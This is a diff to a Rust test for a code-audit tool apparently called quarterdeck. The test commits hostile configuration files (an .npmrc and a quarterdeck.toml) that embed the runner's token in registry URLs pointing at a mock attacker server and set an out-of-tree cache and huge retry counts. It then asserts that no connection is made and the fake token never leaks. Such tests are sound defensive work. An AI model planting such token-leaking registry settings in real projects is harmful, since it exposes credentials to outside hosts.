@@ -430,6 +430,34 @@ fn hostile_audit(n: usize) {
             }
         }
     }
+    // Configuration committed by the attacker: a registry carrying the runner's token, a cache
+    // and links outside the tree, unbounded retries (README "Security": each is refused).
+    let attacker = common::registry_server::RegistryServer::start(Vec::new());
+    let secret = "ghs_hostileRunnerToken42";
+    w(
+        &root.join(".npmrc"),
+        format!(
+            "registry={}/${{QD_HOSTILE_TOKEN}}/\n//127.0.0.1/:_authToken=${{QD_HOSTILE_TOKEN}}\n",
+            attacker.base()
+        )
+        .as_bytes(),
+    );
+    w(
+        &root.join("package-lock.json"),
+        br#"{"name":"till","version":"1.0.0","lockfileVersion":3,"requires":true,
+"packages":{"":{"name":"till","version":"1.0.0","dependencies":{"invoice-dates":"^2.1.0"}},
+"node_modules/invoice-dates":{"version":"2.1.0","resolved":"https://registry.example/invoice-dates/-/invoice-dates-2.1.0.tgz"}}}"#,
+    );
+    w(
+        &root.join("quarterdeck.toml"),
+        format!(
+            "[scan]\nfollow_links = true\n[dependencies]\ncache_dir = \"{}\"\nretries = 100000\n\
+             [registries]\nnpm = \"{}/${{QD_HOSTILE_TOKEN}}/\"\n",
+            home.path().join(".cache/evil").display(),
+            attacker.base()
+        )
+        .as_bytes(),
+    );
     let home_before = tree_state(home.path());
     let mut repo_before = tree_state(root);
     repo_before.retain(|p, _| !p.starts_with(&report));
@@ -439,15 +467,10 @@ fn hostile_audit(n: usize) {
     let o = common::bin()
         .env("HOME", home.path())
         .env("XDG_CACHE_HOME", home.path().join(".cache"))
+        .env("QD_HOSTILE_TOKEN", secret)
         .current_dir(root)
-        .args([
-            "audit",
-            ".",
-            "--quiet",
-            "--offline",
-            "--out",
-            "quarterdeck-report",
-        ])
+        // Online: only the auditor's settings could choose a registry, and there are none.
+        .args(["audit", ".", "--quiet", "--out", "quarterdeck-report"])
         .output()
         .unwrap();
     let took = audit_started.elapsed();
@@ -478,6 +501,12 @@ fn hostile_audit(n: usize) {
     // Links out of the tree are not followed: nothing of the home folder is read.
     let text = fs::read_to_string(report.join("snapshot.json")).unwrap();
     assert!(!text.contains("ghp_not_a_real_token"));
+    // The committed registry settings sent nothing anywhere, and the token shows nowhere.
+    assert_eq!(attacker.connections(), 0, "the attacker's server was reached");
+    assert!(!text.contains(secret) && !stderr(&o).contains(secret));
+    let html = fs::read_to_string(report.join("report.html")).unwrap();
+    assert!(!html.contains(secret));
+    assert_eq!(s["dependency_totals"]["version_source"], "none");
     assert!(file(&s, "token.py").is_none());
     assert!(!text.contains("home-link/"));
 
